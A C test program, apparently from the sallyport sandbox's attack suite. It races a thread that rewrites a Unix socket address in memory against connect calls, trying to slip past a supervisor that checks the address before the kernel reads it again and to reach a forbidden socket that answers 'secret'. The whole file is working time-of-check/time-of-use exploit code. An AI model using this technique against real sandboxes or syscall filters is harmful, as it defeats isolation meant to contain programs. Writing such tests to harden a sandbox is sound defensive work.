// Copyright 2026 The sallyport Authors.
// SPDX-License-Identifier: Apache-2.0

// sockaddr_rewrite: attacks whoever reads the address of a connect from the memory of a
// program, judges it, and lets the kernel read it again. The path of the address is
// rewritten between a socket of its own, which is allowed, and a forbidden one, whose
// server answers "secret". Winning: that answer. Bound: 2 seconds.
//
// usage: sockaddr_rewrite OWN FORBIDDEN

#include "attack.h"

static struct sockaddr_un address, forms[2];

static void *rewrite(void *arg) {
	(void)arg;
	for (int i = 0; in_time(); i ^= 1)
		memcpy((void *)&address, &forms[i], sizeof address);
	return 0;
}

int main(int argc, char **argv) {
	if (argc != 3 || serve_own(argv[1]) != 0)
		return 2;
	unix_address(&forms[0], argv[1]);
	unix_address(&forms[1], argv[2]);
	address = forms[0];
	begin();
	guard();
	pthread_t t;
	pthread_create(&t, 0, rewrite, 0);
	long tries = 0;
	int won = 0;
	for (; !won && in_time(); tries++) {
		int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
		if (fd < 0) {
			printf("LOST no sockets here: %s\n", strerror(errno));
			return 0;
		}
		struct timeval wait = {0, 20000};
		setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &wait, sizeof wait);
		if (connect(fd, (struct sockaddr *)&address, sizeof address) == 0) {
			char b[16] = {0};
			won = recv(fd, b, sizeof b - 1, 0) > 0 && strncmp(b, "secret", 6) == 0;
		}
		close(fd);
	}
	verdict(won, tries, "sockaddr-rewrite");
}
